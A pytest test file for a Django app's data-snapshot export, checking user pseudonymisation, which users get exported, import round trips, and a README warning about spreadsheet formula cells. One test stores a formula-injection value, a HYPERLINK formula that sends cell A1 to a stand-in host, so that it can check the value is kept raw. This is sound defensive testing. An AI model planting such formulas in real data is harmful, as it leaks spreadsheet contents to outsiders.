"""Who a snapshot names: only the users the exported rows refer to, by their usernames or,
pseudonymised, as user-<id>; and the README's warning about cells a spreadsheet would
take for formulas."""

import csv
import datetime
import io
import zipfile

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.db import connection

from companies.models import Company
from events.models import Metric
from factbase.core.services import record_save
from factbase.snapshots.export import export_snapshot
from factbase.snapshots.importer import import_snapshot
from factbase.snapshots.store import snapshot_open, snapshot_take
from factbase.snapshots.tables import USERS, snapshot_tables, user_references

from .helpers import descriptor, empty_database, export_dir, retouch, rows, write_descriptor

pytestmark = pytest.mark.django_db

CREATED = datetime.datetime(2025, 3, 1, 12, 0, tzinfo=datetime.UTC)
# Names that occur nowhere in the demo data, so that finding one in a file means a leak.
SUPERUSER = "root-qv7xk"
IDLE = "idle-reader-m3pz"
CREATOR = "creator-w8tn"
HISTORIAN = "historian-k2rd"


@pytest.fixture
def people(demo):
    """Besides alice (who edited a company): a superuser and a user who never wrote; a
    user who created a company; a user whose only trace is in the history, their edit
    since overwritten by alice."""
    users = get_user_model().objects
    users.create_superuser(SUPERUSER, email="root@example.org", password="s3cret-pass")
    users.create_user(IDLE, email="idle@example.org", password="s3cret-pass")
    creator = users.create_user(CREATOR, email="creator@example.org")
    historian = users.create_user(HISTORIAN, email="historian@example.org")
    record_save(Company(name="Createdco", slug="createdco", kind="other"), user=creator)
    metric = Metric.objects.order_by("id").first()
    metric.note = "First pass."
    record_save(metric, user=historian)
    metric.note = "Second pass."
    record_save(metric, user=demo)
    metric.refresh_from_db()
    assert metric.updated_by == demo  # the historian is left in the history alone
    return {u.username: u for u in users.all()}


def stored_password_hashes() -> list[str]:
    return [h for h in get_user_model().objects.values_list("password", flat=True) if h]


def usernames(path) -> dict[str, str]:
    return {row[0]: row[1] for row in rows(path, USERS)[1:]}


def referenced_ids(path) -> set[str]:
    """Every user id any CSV of the snapshot names, from the snapshot's own tables."""
    found = set()
    for table, column in user_references():
        records = rows(path, table.name)
        index = records[0].index(column.name)
        found |= {r[index] for r in records[1:] if r[index] != "\\N"}
    return found


def zip_members(path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def empty_everything() -> None:
    """An empty database, users included."""
    empty_database()
    get_user_model().objects.all().delete()


def all_files(path) -> dict[str, bytes]:
    return {
        str(p.relative_to(path)): p.read_bytes() for p in sorted(path.rglob("*")) if p.is_file()
    }


# --- who is in users.csv -----------------------------------------------------------------


def test_user_references_are_found_from_the_models():
    found = {(table.name, column.name) for table, column in user_references()}
    assert ("companies_company", "created_by_id") in found
    assert ("companies_company", "updated_by_id") in found
    assert ("companies_historicalcompany", "history_user_id") in found
    assert ("events_historicalmetric", "history_user_id") in found
    assert not any(name == USERS for name, _ in found)
    assert "factbase_snapshot" not in {table.name for table in snapshot_tables()}
    # Every foreign key to the user model among the exported models, and nothing else.
    user_model = get_user_model()
    expected = {
        (table.name, f.column)
        for table in snapshot_tables()
        if table.name != USERS
        for f in table.model._meta.concrete_fields
        if f.is_relation and f.related_model is user_model
    }
    assert found == expected
    assert all(name.endswith("_id") for _, name in found)


def test_only_the_authors_are_named(people, tmp_path):
    snapshot = export_dir(tmp_path / "s")
    names = usernames(snapshot)
    assert SUPERUSER not in names.values()
    assert IDLE not in names.values()
    assert {"alice", CREATOR, HISTORIAN} <= set(names.values())
    assert names[str(people[CREATOR].pk)] == CREATOR
    # Exactly the users the rows name: none missing, none extra.
    assert set(names) == referenced_ids(snapshot)
    assert rows(snapshot, USERS)[0] == ["id", "username"]
    text = (snapshot / "data" / "users.csv").read_text()
    assert "@example.org" not in text and "s3cret" not in text
    assert not [h for h in stored_password_hashes() if h in text]
    for leaked in (SUPERUSER, IDLE, "root@example.org"):
        for member in all_files(snapshot).values():
            assert leaked.encode() not in member


def test_the_history_alone_puts_an_author_in(people, tmp_path):
    snapshot = export_dir(tmp_path / "s")
    historian = str(people[HISTORIAN].pk)
    metrics = rows(snapshot, "events_metric")
    header = metrics[0]
    assert historian not in {
        r[header.index(c)] for r in metrics[1:] for c in ("created_by_id", "updated_by_id")
    }
    history = rows(snapshot, "events_historicalmetric")
    header = history[0]
    assert historian in {r[header.index("history_user_id")] for r in history[1:]}
    assert usernames(snapshot)[historian] == HISTORIAN


def test_with_no_author_users_csv_is_only_its_header(db, tmp_path):
    get_user_model().objects.create_superuser(SUPERUSER, password=None)
    record_save(Company(name="Anonymous", slug="anonymous", kind="other"))
    snapshot = export_dir(tmp_path / "s")
    assert (snapshot / "data" / "users.csv").read_text() == "id,username\n"
    assert next(r for r in descriptor(snapshot)["resources"] if r["name"] == USERS)["rows"] == 0


# --- pseudonyms --------------------------------------------------------------------------


def test_pseudonymised_zip_names_no_real_user(people, tmp_path):
    path = tmp_path / "p.zip"
    export_snapshot(path, pseudonymise=True)
    members = zip_members(path)
    assert "data/users.csv" in members and "README.txt" in members
    for name, data in members.items():
        for username in people:
            assert username.encode() not in data, f"{username} is in {name}"
    users = list(csv.reader(io.StringIO(members["data/users.csv"].decode())))
    assert users[0] == ["id", "username"]
    assert {u for _, u in users[1:]} == {f"user-{i}" for i, _ in users[1:]}
    ids = {i for i, _ in users[1:]}
    assert str(people[CREATOR].pk) in ids and str(people[SUPERUSER].pk) not in ids


def test_the_command_pseudonymises(people, tmp_path):
    call_command(
        "export_snapshot",
        "--format",
        "dir",
        "--out",
        tmp_path / "c",
        "--pseudonymise",
        verbosity=0,
    )
    names = usernames(tmp_path / "c")
    assert set(names.values()) == {f"user-{i}" for i in names}
    assert descriptor(tmp_path / "c")["factbase"]["usernames"] == "pseudonymised"
    call_command("export_snapshot", "--format", "dir", "--out", tmp_path / "r", verbosity=0)
    assert "alice" in usernames(tmp_path / "r").values()
    assert descriptor(tmp_path / "r")["factbase"]["usernames"] == "real"


def test_pseudonymised_exports_are_byte_identical(people, tmp_path):
    export_snapshot(tmp_path / "a.zip", created=CREATED, pseudonymise=True)
    export_snapshot(tmp_path / "b.zip", created=CREATED, pseudonymise=True)
    assert (tmp_path / "a.zip").read_bytes() == (tmp_path / "b.zip").read_bytes()


@pytest.mark.parametrize("pseudonymise", [False, True], ids=["real", "pseudonymised"])
def test_round_trip_into_an_empty_database(people, tmp_path, pseudonymise):
    before = export_dir(tmp_path / "before", created=CREATED, pseudonymise=pseudonymise)
    empty_everything()
    import_snapshot(before)
    after = export_dir(tmp_path / "after", created=CREATED, pseudonymise=pseudonymise)
    assert all_files(before) == all_files(after)
    # Only the authors came back.
    expected = set(usernames(before).values())
    assert set(get_user_model().objects.values_list("username", flat=True)) == expected


@pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY is PostgreSQL's")
@pytest.mark.parametrize("pseudonymise", [False, True], ids=["real", "pseudonymised"])
def test_copy_and_python_name_the_same_users(people, tmp_path, pseudonymise):
    copy = export_dir(tmp_path / "copy", method="copy", pseudonymise=pseudonymise)
    python = export_dir(tmp_path / "python", method="python", pseudonymise=pseudonymise)
    assert (copy / "data" / "users.csv").read_bytes() == (
        python / "data" / "users.csv"
    ).read_bytes()
    assert len(rows(copy, USERS)) == 4  # the header, alice, the creator, the historian


def test_the_setting_pseudonymises_snapshots_taken_in_the_app(people, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.SNAPSHOT_PSEUDONYMISE = True
    snapshot = snapshot_take(user=people[SUPERUSER])
    with snapshot_open(snapshot) as file:
        members = zip_members(io.BytesIO(file.read()))
    for data in members.values():
        for username in people:
            assert username.encode() not in data
    assert b"user-" in members["data/users.csv"]

    settings.SNAPSHOT_PSEUDONYMISE = False
    snapshot = snapshot_take(user=people[SUPERUSER])
    with snapshot_open(snapshot) as file:
        members = zip_members(io.BytesIO(file.read()))
    assert b"alice" in members["data/users.csv"]
    assert SUPERUSER.encode() not in members["data/users.csv"]


# --- the past and the old format ---------------------------------------------------------


def test_as_of_names_the_users_who_had_joined_and_written_by_then(people, tmp_path):
    taken = export_dir(tmp_path / "taken")
    moment = descriptor(taken)["created"]
    users = get_user_model().objects
    # After the moment: a user who had joined writes, a newcomer joins and writes.
    record_save(Company(name="Lateco", slug="lateco", kind="other"), user=people[IDLE])
    newcomer = users.create_user("newcomer-j4bv")
    record_save(Company(name="Newco", slug="newco-j4bv", kind="other"), user=newcomer)

    now = usernames(export_dir(tmp_path / "now"))
    assert IDLE in now.values() and "newcomer-j4bv" in now.values()

    then = tmp_path / "then"
    call_command(
        "export_snapshot", "--format", "dir", "--out", then, "--as-of", moment, verbosity=0
    )
    assert usernames(then) == usernames(taken)
    assert (then / "data" / "users.csv").read_bytes() == (taken / "data" / "users.csv").read_bytes()
    assert IDLE not in usernames(then).values()

    export_dir(
        tmp_path / "then-p", as_of=datetime.datetime.fromisoformat(moment), pseudonymise=True
    )
    assert set(usernames(tmp_path / "then-p")) == set(usernames(taken))


def test_as_of_names_the_users_of_a_restored_database(people, tmp_path):
    """A database restored from a snapshot made its users when it was restored: a
    snapshot holds no date of joining. A snapshot of an instant before the restore names
    the users its rows name all the same, and loads."""
    alice = get_user_model().objects.get(username="alice")
    record_save(Company(name="Oldco", slug="oldco-r7", kind="other"), user=alice)
    taken = export_dir(tmp_path / "taken")
    moment = descriptor(taken)["created"]
    restored = datetime.datetime.now(datetime.UTC) + datetime.timedelta(days=1)
    get_user_model().objects.update(date_joined=restored)

    then = tmp_path / "then"
    call_command(
        "export_snapshot", "--format", "dir", "--out", then, "--as-of", moment, verbosity=0
    )
    assert "alice" in usernames(then).values()
    for name in ("users.csv", "companies_company.csv"):
        assert (then / "data" / name).read_bytes() == (taken / "data" / name).read_bytes()
    empty_database()
    import_snapshot(then)
    assert Company.objects.get(slug="oldco-r7").created_by.username == "alice"


def old_users_csv(snapshot) -> str:
    """users.csv as exports wrote it before only authors were named: every user."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["id", "username"])
    for pk, username in get_user_model().objects.order_by("id").values_list("id", "username"):
        writer.writerow([pk, username])
    return out.getvalue()


def test_a_snapshot_naming_every_user_still_imports(people, tmp_path):
    snapshot = export_dir(tmp_path / "old")
    old = old_users_csv(snapshot)
    retouch(snapshot, USERS, lambda _text: old)
    package = descriptor(snapshot)
    del package["factbase"]["usernames"]  # older snapshots do not say
    write_descriptor(snapshot, package)
    assert SUPERUSER in (snapshot / "data" / "users.csv").read_text()

    empty_everything()
    report = import_snapshot(snapshot)
    assert report.users_created == len(people)
    users = get_user_model().objects
    assert set(users.values_list("username", flat=True)) == set(people)
    root = users.get(username=SUPERUSER)
    assert not root.is_superuser and not root.has_usable_password()
    assert Company.objects.get(slug="createdco").created_by.username == CREATOR

    # Exported again, it names the authors only.
    again = export_dir(tmp_path / "again")
    assert SUPERUSER not in usernames(again).values()
    assert IDLE not in usernames(again).values()
    assert CREATOR in usernames(again).values()


# --- the README --------------------------------------------------------------------------


@pytest.mark.parametrize("pseudonymise", [False, True], ids=["real", "pseudonymised"])
def test_readme_warns_of_formulas_and_says_how_to_open_safely(demo, tmp_path, pseudonymise):
    path = tmp_path / "s.zip"
    export_snapshot(path, pseudonymise=pseudonymise)
    text = zip_members(path)["README.txt"].decode()
    flat = " ".join(text.split())
    assert "raw text exactly as the database stores it" in flat
    assert "=, +, - or @" in flat and "formula" in flat
    assert '"Text CSV"' in flat and "From Text/CSV" in flat and "dtype=str" in flat
    if pseudonymise:
        assert "pseudonyms: user-<id>" in flat
    else:
        assert "are the users' own" in flat


def test_formula_cells_are_kept_raw(demo, tmp_path):
    company = Company.objects.get(slug="mistral-ai")
    company.note = '=HYPERLINK("http://example.org/?"&A1,"x")'
    record_save(company)
    snapshot = export_dir(tmp_path / "s")
    companies = rows(snapshot, "companies_company")
    header = companies[0]
    row = next(r for r in companies if r[header.index("slug")] == "mistral-ai")
    assert row[header.index("note")] == company.note
